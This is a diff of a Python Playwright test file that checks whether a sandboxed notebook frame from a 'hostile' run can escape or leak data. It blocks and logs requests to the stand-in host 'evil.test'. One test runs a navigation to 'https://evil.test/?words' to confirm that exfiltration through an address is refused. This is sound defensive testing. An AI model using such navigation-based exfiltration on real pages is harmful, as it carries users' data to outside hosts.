@@ -10,6 +10,7 @@ import pytest
 from playwright.sync_api import Frame, Page, expect
 
 from tests.bench import Bench
+from tests.browser.looking import until
 from tests.browser.two_people import People, both_come_in
 from tests.waiting import wait_for
 
@@ -83,14 +84,13 @@ def asked() -> set[str]:
 @pytest.fixture
 def page(people: People, asked: set[str]) -> Iterator[Page]:
     page = people.ada.browser.new_page()
-    page.set_default_timeout(30_000)
     page.route("https://evil.test/**", lambda route: (asked.add(route.request.url), route.abort()))
     yield page
     page.close()
 
 
 def said(frame: Frame) -> dict[str, str]:
-    frame.wait_for_function("document.getElementById('said')?.innerText.startsWith('{')")
+    until(frame, "document.getElementById('said')?.innerText.startsWith('{')")
     return json.loads(frame.locator("#said").inner_text())
 
 
@@ -104,7 +104,7 @@ def test_in_its_frame(people: People, hostile: dict[str, Any], page: Page, asked
     address = f"{people.ada.bench.url}/runs/{hostile['id']}"
     page.goto(address)
     pages = len(people.ada.browser.pages)
-    frame = wait_for(lambda: page.frame(url="**/notebook.html"), 10)
+    frame = wait_for(lambda: page.frame(url="**/notebook.html"))
     assert_all_refused(said(frame))
     assert page.url == address
     assert len(people.ada.browser.pages) == pages
@@ -115,7 +115,7 @@ def test_in_its_frame(people: People, hostile: dict[str, Any], page: Page, asked
 def test_the_frame_itself_leads_nowhere(people: People, hostile: dict[str, Any], page: Page, asked: set[str]) -> None:
     """It could carry words away in an address."""
     page.goto(f"/runs/{hostile['id']}")
-    frame = wait_for(lambda: page.frame(url="**/notebook.html"), 10)
+    frame = wait_for(lambda: page.frame(url="**/notebook.html"))
     said(frame)
     frame.evaluate("() => { location = 'https://evil.test/?words' }")
     page.wait_for_event("framenavigated", lambda moved: moved.url.startswith("chrome-error:"))
